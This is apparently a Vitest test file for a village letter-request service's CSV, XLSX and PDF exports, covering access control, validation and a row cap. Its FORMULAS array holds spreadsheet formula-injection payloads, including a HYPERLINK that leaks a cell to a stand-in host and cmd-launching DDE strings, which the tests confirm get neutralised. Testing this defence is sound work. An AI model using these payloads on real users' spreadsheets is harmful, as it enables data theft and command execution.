import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { letterTypeByCode, requestReference, todayIso, type LetterType } from '@balai/domain';
import { exportedFields } from '../src/letters/export/type-columns.ts';
import { planLetterExport } from '../src/repositories/letter-export.ts';
import { DEFAULT_SETTINGS, upsertSettings } from '../src/repositories/settings.ts';
import { createTestApp, login, makeUser, type TestContext } from './helpers.ts';
import { NO_SUBMISSION_CAPS, client, example, makeResident, pdfText } from './letter-helpers.ts';
import { parseCsv, readXlsx, sheetValues } from './spreadsheet-helpers.ts';

const ku = letterTypeByCode('ku')!;
const kdtt = letterTypeByCode('kdtt')!;
const today = todayIso();

const HEADERS = [
  'No.',
  'Referensi',
  'Jenis Surat',
  'Status',
  'Tanggal Pengajuan',
  'Nama Pemohon',
  'NIK',
  'Identitas Terverifikasi',
  'No. HP',
  'Keperluan',
  'Nomor Surat',
  'Tanggal Terbit',
  'Catatan Petugas',
  'Terakhir Diubah',
];

/** A per-type export's headers: the queue's, then the type's field labels (issue 25.7). */
const headersOf = (type: LetterType) => [...HEADERS, ...exportedFields(type).map((f) => f.label)];

/** Purposes a spreadsheet would read as formulas, and what the export must write instead. */
const FORMULAS = [
  '=HYPERLINK("http://jahat.example/?x="&A1,"Klik")',
  '+62812345678',
  "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+9)*cmd|'/C calc'!A0",
];

describe('letter exports', () => {
  let ctx: TestContext;
  let asAdmin: ReturnType<typeof client>;
  let asSiti: ReturnType<typeof client>;
  let anonymous: ReturnType<typeof client>;
  let sitiId: number;
  const issued: { id: number; number: string; purpose: string; type: string }[] = [];

  beforeAll(async () => {
    ctx = await createTestApp({ env: { RATE_LIMIT_MAX: '0', ...NO_SUBMISSION_CAPS } });
    const db = ctx.testDb.db;
    const { updated_at: _u, ...defaults } = DEFAULT_SETTINGS;
    await upsertSettings(db.kysely, {
      ...defaults,
      village_name: 'Desa Sukamaju',
      kecamatan: 'Cibungbulang',
      kabupaten: 'Bogor',
    });
    const admin = await makeUser(db, { role: 'ADMINISTRATOR' });
    asAdmin = client(ctx.app, await login(ctx.app, admin.email));
    anonymous = client(ctx.app, null);
    const siti = await makeResident(db, { name: 'Siti Rahmawati', nik: '3201014506880002' });
    sitiId = siti.id;
    asSiti = client(ctx.app, await login(ctx.app, siti.email));
    const as = async (name: string, nik: string) =>
      client(ctx.app, await login(ctx.app, (await makeResident(db, { name, nik })).email));
    const yohanes = await as('Yohanes Sitompul', '3201010909920001');
    const ayu = await as('Ni Kadek Ayu Lestari', '3201015203990004');
    const elodie = await as('Élodie Ñúñez Sitorus', '3174015203990005');

    // 16 requests of two types from four residents; four purposes look like formulas.
    const ids: number[] = [];
    const filers = [asSiti, yohanes, ayu, elodie];
    for (let i = 0; i < 16; i++) {
      const type = i % 3 === 0 ? kdtt : ku;
      const purpose = FORMULAS[i % 4 === 0 ? i / 4 : -1] ?? `Keperluan nomor ${i}; "penting"`;
      const res = await filers[i % 4]!('POST', type.base, { ...example(type.code), purpose });
      expect(res.statusCode, res.body).toBe(201);
      ids.push(res.json().data.id);
    }
    // Statuses: 0, 4, 5, 7 completed (issued, in that order); 1 rejected; 2 processing; 3 needs revision.
    const base = (i: number) => (i % 3 === 0 ? kdtt : ku).base;
    for (const i of [0, 4, 5, 7]) {
      await asAdmin('PUT', `${base(i)}/${ids[i]}`, { status: 'processing' });
      const done = await asAdmin('PUT', `${base(i)}/${ids[i]}`, { status: 'completed' });
      expect(done.statusCode, done.body).toBe(200);
      const d = done.json().data;
      issued.push({ id: d.id, number: d.number, purpose: d.purpose, type: d.type_title });
    }
    await asAdmin('PUT', `${base(1)}/${ids[1]}`, {
      status: 'rejected',
      note: '=1+1 bukan alasan',
    });
    await asAdmin('PUT', `${base(2)}/${ids[2]}`, { status: 'processing' });
    await asAdmin('PUT', `${base(3)}/${ids[3]}`, {
      status: 'needs_revision',
      note: '@Lengkapi KK',
    });
  });
  afterAll(async () => ctx.close());

  /** Every request the list shows for a query, all pages, as references. */
  async function listed(query: string): Promise<string[]> {
    const refs: string[] = [];
    for (let page = 1; ; page++) {
      const res = await asAdmin('GET', `/api/letter-requests?${query}&per_page=5&page=${page}`);
      expect(res.statusCode, res.body).toBe(200);
      const body = res.json();
      refs.push(
        ...body.data.map((r: { type: string; id: number }) => requestReference(r.type, r.id)),
      );
      if (page >= body.meta.last_page) return refs;
    }
  }

  async function csvRows(query: string): Promise<string[][]> {
    const res = await asAdmin('GET', `/api/letter-requests/export?format=csv&${query}`);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows = parseCsv(res.rawPayload.subarray(3).toString('utf8'));
    // One type's export adds a column per field of the type after the queue's (issue 25.7).
    const type = /(?:^|&)type=(\w+)/.exec(query)?.[1];
    expect(rows[0]).toEqual(type ? headersOf(letterTypeByCode(type)!) : HEADERS);
    return rows.slice(1);
  }

  const QUERIES = [
    '',
    'type=ku',
    'type=kdtt&status=completed',
    'status=submitted,processing',
    'status=needs_revision,rejected',
    // The cross-type queue's own order: everything waiting, oldest first (merged per status).
    'status=submitted,needs_revision,processing&sort=created_at',
    'search=siti',
    'search=sit',
    'search=sit&type=ku&sort=created_at',
    'search=rahma%20siti',
    'search=3201',
    'search=3201015203990004',
    'search=zzz',
    'search=%21%21',
    `from=${today}&to=${today}`,
    'to=2020-01-01',
    'sort=created_at&status=submitted',
  ];

  it.each(QUERIES)('exports exactly the rows the list shows, in its order: "%s"', async (q) => {
    const expected = await listed(q);
    const rows = await csvRows(q);
    expect(rows.map((r) => r[1])).toEqual(expected);
    expect(rows.map((r) => r[0])).toEqual(expected.map((_, i) => String(i + 1)));
  });

  it('finds a request by its reference, as the list does', async () => {
    const ref = requestReference('kdtt', issued[0]!.id);
    for (const q of [
      `search=${ref}`,
      `search=${ref.toLowerCase()}&type=kdtt`,
      `search=${ref}&type=ku`,
    ]) {
      const expected = await listed(q);
      expect(
        (await csvRows(q)).map((r) => r[1]),
        q,
      ).toEqual(expected);
    }
    expect(await listed(`search=${ref}`)).toEqual([ref]);
  });

  it('honours a resident filter (applicant_id) with a search, like the list', async () => {
    const q = `applicant_id=${sitiId}&search=rahma`;
    const expected = await listed(q);
    expect(expected).toHaveLength(4);
    expect((await csvRows(q)).map((r) => r[1])).toEqual(expected);
  });

  it('writes CSV as UTF-8 with a BOM, `;`-separated, RFC 4180 quoting and neutralised formulas', async () => {
    const res = await asAdmin('GET', '/api/letter-requests/export?format=csv');
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="permohonan-surat-${today}.csv"`,
    );
    expect(res.headers['cache-control']).toBe('private, no-store');
    const text = res.rawPayload.toString('utf8');
    expect(text.split('\r\n')[0]).toBe(`\uFEFF${HEADERS.join(';')}`);
    // Quoting: a purpose with `;` and `"` is one quoted field.
    expect(text).toContain(';"Keperluan nomor 1; ""penting""";');
    const rows = await csvRows('');
    const byRef = new Map(rows.map((r) => [r[1], r]));
    const purposes = rows.map((r) => r[9]);
    for (const f of FORMULAS) {
      expect(purposes).toContain(`'${f}`);
      expect(purposes).not.toContain(f);
    }
    // Nothing in the file begins a field with a formula character.
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const notes = rows.map((r) => r[12]);
    expect(notes).toContain("'=1+1 bukan alasan");
    expect(notes).toContain("'@Lengkapi KK");
    // Characters beyond ASCII survive, the NIK stays text, times are village time.
    const elodie = rows.find((r) => r[5] === 'Élodie Ñúñez Sitorus')!;
    expect(elodie[6]).toBe('3174015203990005');
    expect(elodie[4]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
    expect(elodie[4]!.slice(0, 10)).toBe(today);
    const done = byRef.get(requestReference('kdtt', issued[0]!.id))!;
    expect(done[3]).toBe('Selesai');
    expect(done[10]).toBe(issued[0]!.number);
    expect(done[11]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
    expect(done[2]).toBe(kdtt.title);
  });

  it('writes a real XLSX that reads back: Indonesian headers, rows, text NIKs, dates, neutralised formulas', async () => {
    const res = await asAdmin('GET', '/api/letter-requests/export?format=xlsx&type=ku');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="permohonan-surat-ku-${today}.xlsx"`,
    );
    expect(res.headers['cache-control']).toBe('private, no-store');
    const wb = await readXlsx(res.rawPayload);
    const sheet = wb.getWorksheet('Permohonan Surat')!;
    expect(sheet).toBeDefined();
    const values = sheetValues(sheet);
    expect(values[0]).toEqual(headersOf(ku));
    const expected = await listed('type=ku');
    expect(values.slice(1).map((r) => r[1])).toEqual(expected);
    expect(values.slice(1).map((r) => r[0])).toEqual(expected.map((_, i) => i + 1));
    for (let r = 2; r <= sheet.rowCount; r++) {
      for (let c = 1; c <= HEADERS.length; c++) {
        const cell = sheet.getCell(r, c);
        // No formula cells at all; text never begins with a formula character.
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
      }
      expect(typeof sheet.getCell(r, 7).value).toBe('string'); // NIK
      expect(sheet.getCell(r, 5).value).toBeInstanceOf(Date); // Tanggal Pengajuan
    }
    const purposes = values.slice(1).map((r) => r[9]);
    // ku holds requests 1, 2, 4, 5, 7, 8, 10, 11, 13, 14: formulas 1 (+62…) and 2 (-2+3…).
    expect(purposes).toContain(`'${FORMULAS[1]}`);
    expect(purposes).toContain(`'${FORMULAS[2]}`);
    const created = sheet.getCell(2, 5).value as Date;
    // Village time: the Date's UTC fields are the WIB wall clock of the filing.
    expect(created.toISOString().slice(0, 10)).toBe(today);
  });

  it('only administrators export; the others get 401/403 and nothing else', async () => {
    const resident = await asSiti('GET', '/api/letter-requests/export?format=csv');
    expect(resident.statusCode).toBe(403);
    expect(resident.json().message).toBe('Hanya administrator yang dapat melakukan tindakan ini.');
    expect((await anonymous('GET', '/api/letter-requests/export?format=csv')).statusCode).toBe(401);
    const reg = await asSiti('GET', `/api/letter-register?from=${today}&to=${today}&format=pdf`);
    expect(reg.statusCode).toBe(403);
    expect(
      (await anonymous('GET', `/api/letter-register?from=${today}&to=${today}&format=xlsx`))
        .statusCode,
    ).toBe(401);
  });

  it('refuses bad input with Indonesian 422s', async () => {
    const cases: [string, string, string][] = [
      ['/api/letter-requests/export', 'format', 'Format harus csv atau xlsx.'],
      ['/api/letter-requests/export?format=pdf', 'format', 'Format harus csv atau xlsx.'],
      [
        '/api/letter-requests/export?format=csv&status=selesai',
        'status',
        'Status harus salah satu dari',
      ],
      [
        '/api/letter-requests/export?format=csv&from=2026-11-02&to=2026-11-01',
        'to',
        'Tanggal akhir tidak boleh sebelum tanggal awal.',
      ],
      ['/api/letter-requests/export?format=csv&type=xx', 'type', 'Jenis surat harus salah satu'],
      ['/api/letter-register?to=2026-11-30&format=pdf', 'from', 'Tanggal awal wajib diisi.'],
      [
        '/api/letter-register?from=2026-02-30&to=2026-03-01&format=pdf',
        'from',
        'Tanggal awal harus tanggal yang valid (TTTT-BB-HH).',
      ],
      [
        '/api/letter-register?from=2026-11-01&to=2026-11-30&format=csv',
        'format',
        'Format harus xlsx atau pdf.',
      ],
      [
        '/api/letter-register?from=2026-11-30&to=2026-11-01&format=xlsx',
        'to',
        'Tanggal akhir tidak boleh sebelum tanggal awal.',
      ],
      [
        '/api/letter-register?from=2025-01-01&to=2026-01-02&format=xlsx',
        'to',
        'Periode paling panjang satu tahun (366 hari).',
      ],
    ];
    for (const [url, field, message] of cases) {
      const res = await asAdmin('GET', url);
      expect(res.statusCode, url).toBe(422);
      expect(res.json().errors[field][0], url).toContain(message);
    }
    // A whole leap year is allowed.
    const year = await asAdmin(
      'GET',
      '/api/letter-register?from=2024-01-01&to=2024-12-31&format=xlsx',
    );
    expect(year.statusCode).toBe(200);
  });

  it('registers the letters issued in a period as XLSX, oldest first, with the title', async () => {
    const res = await asAdmin('GET', `/api/letter-register?from=${today}&to=${today}&format=xlsx`);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="buku-agenda-surat-keluar-${today}-sd-${today}.xlsx"`,
    );
    expect(res.headers['cache-control']).toBe('private, no-store');
    const wb = await readXlsx(res.rawPayload);
    const sheet = wb.getWorksheet('Buku Agenda Surat Keluar')!;
    const values = sheetValues(sheet);
    expect(values[0]).toEqual(['Buku Agenda Surat Keluar Desa Sukamaju']);
    expect(values[1]).toEqual(['Kecamatan Cibungbulang, Kabupaten Bogor']);
    expect(String(values[2]?.[0])).toMatch(/^Periode \d+ \w+ \d{4}$/);
    expect(values[4]).toEqual([
      'No.',
      'Nomor Surat',
      'Tanggal',
      'Jenis Surat',
      'Pemohon',
      'Keperluan',
    ]);
    const body = values.slice(5);
    expect(body.map((r) => r[1])).toEqual(issued.map((l) => l.number));
    expect(body.map((r) => r[0])).toEqual([1, 2, 3, 4]);
    expect(body.map((r) => r[3])).toEqual(issued.map((l) => l.type));
    expect(body[0]![4]).toBe('Siti Rahmawati');
    // The first letter's purpose was a formula: neutralised here too.
    expect(body[0]![5]).toBe(`'${FORMULAS[0]}`);
    expect(body[0]![2]).toBeInstanceOf(Date);
    expect((body[0]![2] as Date).toISOString()).toBe(`${today}T00:00:00.000Z`);
    // Printing repeats the header row on every page.
    expect(sheet.pageSetup.printTitlesRow).toBe('5:5');
    // Another day: empty, header only.
    const empty = await readXlsx(
      (await asAdmin('GET', '/api/letter-register?from=2020-01-01&to=2020-01-31&format=xlsx'))
        .rawPayload,
    );
    expect(sheetValues(empty.getWorksheet('Buku Agenda Surat Keluar')!).slice(5)).toEqual([]);
  });

  it('prints the register as an A4 PDF: title with village and period, header, page numbers', async () => {
    const res = await asAdmin('GET', `/api/letter-register?from=${today}&to=${today}&format=pdf`);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="buku-agenda-surat-keluar-${today}-sd-${today}.pdf"`,
    );
    expect(res.headers['cache-control']).toBe('private, no-store');
    const text = pdfText(res.rawPayload);
    expect(text).toContain('BUKU AGENDA SURAT KELUAR');
    expect(text).toContain('Pemerintah Desa Sukamaju, Kecamatan Cibungbulang, Kabupaten Bogor');
    expect(text).toMatch(/Periode \d+ \w+ \d{4}/);
    expect(text).toMatch(/No\.\s+Nomor Surat\s+Tanggal\s+Jenis Surat\s+Pemohon\s+Keperluan/);
    for (const l of issued) expect(text).toContain(l.number);
    expect(text).toContain('Halaman 1 dari 1');
    const typed = pdfText(
      (await asAdmin('GET', `/api/letter-register?from=${today}&to=${today}&format=pdf&type=kdtt`))
        .rawPayload,
    );
    expect(typed).toContain(kdtt.title);
    expect(typed).toContain(issued[0]!.number);
    expect(typed).not.toContain(issued[1]!.number);
  });

  it('documents both routes in the OpenAPI document, with Indonesian tags and file answers', async () => {
    const doc = (await ctx.app.inject({ method: 'GET', url: '/api/docs/json' })).json();
    const exp = doc.paths['/api/letter-requests/export'].get;
    expect(exp.tags).toEqual(['Layanan']);
    expect(exp.summary).toMatch(/^Ekspor antrean permohonan surat/);
    expect(Object.keys(exp.responses['200'].content)).toEqual([
      'text/csv',
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    ]);
    const names = (op: { parameters: { name: string }[] }) => op.parameters.map((p) => p.name);
    expect(names(exp)).toEqual(
      expect.arrayContaining(['format', 'type', 'status', 'from', 'to', 'search', 'sort']),
    );
    expect(names(exp)).not.toContain('page');
    const reg = doc.paths['/api/letter-register'].get;
    expect(reg.tags).toEqual(['Riwayat Surat']);
    expect(reg.summary).toMatch(/^Buku agenda surat keluar/);
    expect(Object.keys(reg.responses['200'].content)).toEqual([
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      'application/pdf',
    ]);
    expect(names(reg)).toEqual(expect.arrayContaining(['from', 'to', 'format', 'type']));
  });

  it('audits each export with its format and row count, never a NIK', async () => {
    await asAdmin('GET', '/api/letter-requests/export?format=xlsx&search=3201014506880002');
    const row = await ctx.testDb.db.kysely
      .selectFrom('audit_log')
      .select(['action', 'detail'])
      .where('action', '=', 'letter.export')
      .orderBy('id', 'desc')
      .executeTakeFirstOrThrow();
    const detail = JSON.parse(row.detail!);
    expect(detail).toMatchObject({ format: 'xlsx', rows: 4 });
    expect(row.detail).not.toContain('3201014506880002');
  });

  it('counts up to the cap in the repository, without and with a search', async () => {
    const db = ctx.testDb.db.kysely;
    for (const f of [{}, { search: 'sit' }, { search: 's' }, { search: '3201' }]) {
      const all = await planLetterExport(db, f);
      expect(all.tooMany).toBe(false);
      let n = 0;
      for await (const rows of all.chunks()) n += rows.length;
      expect(n, JSON.stringify(f)).toBe(all.count);
      expect(n).toBeGreaterThan(3);
      // Exactly at the cap: allowed; one fewer: refused, counting stops at cap + 1.
      expect((await planLetterExport(db, f, n)).tooMany).toBe(false);
      const over = await planLetterExport(db, f, n - 2);
      expect(over).toMatchObject({ tooMany: true, count: n - 1 });
    }
  });
});

describe('letter export cap: 100,000 rows', () => {
  let ctx: TestContext;
  let asAdmin: ReturnType<typeof client>;

  beforeAll(async () => {
    ctx = await createTestApp({ env: { RATE_LIMIT_MAX: '0' } });
    const db = ctx.testDb.db.kysely;
    asAdmin = client(
      ctx.app,
      await login(ctx.app, (await makeUser(ctx.testDb.db, { role: 'ADMINISTRATOR' })).email),
    );
    // 100,001 requests written straight to the table (the path of filing is not under test).
    await sql`insert into letter_requests
        (type, applicant, applicant_name, applicant_name_key, applicant_nik, data, purpose,
         status, verify_token, created_at, updated_at)
      with recursive s(n) as (select 1 union all select n + 1 from s where n < 100001)
      select 'ku', '{}', 'Warga Massal', 'warga massal', '3201000000000000', '{}',
             '=SUM(A1)', 'submitted', 'bulk-' || n, '2025-01-01T00:00:00.000Z',
             '2025-01-01T00:00:00.000Z'
        from s`.execute(db);
    await sql`analyze letter_requests`.execute(db);
  }, 120_000);
  afterAll(async () => ctx.close());

  it('refuses a filter matching more than 100,000 rows with a 422 that says how to narrow it', async () => {
    const res = await asAdmin('GET', '/api/letter-requests/export?format=csv');
    expect(res.statusCode).toBe(422);
    expect(res.json().message).toBe(
      'Ekspor paling banyak 100.000 baris, sedangkan filter ini cocok dengan lebih dari itu. Persempit filter: jenis surat, status, rentang tanggal atau pencarian.',
    );
  });

  it('streams exactly 100,000 rows when that is what matches', async () => {
    await sql`delete from letter_requests where verify_token = 'bulk-1'`.execute(
      ctx.testDb.db.kysely,
    );
    const res = await asAdmin('GET', '/api/letter-requests/export?format=csv&type=ku');
    expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
    const lines = res.rawPayload.toString('utf8').split('\r\n');
    expect(lines.at(-1)).toBe('');
    expect(lines).toHaveLength(100_002); // header, 100,000 rows, the final CRLF
    expect(lines[1]!.startsWith('1;KU-')).toBe(true);
    expect(lines[100_000]!.startsWith('100000;KU-')).toBe(true);
    expect(lines[100_000]).toContain(";'=SUM(A1);");
  }, 120_000);
});
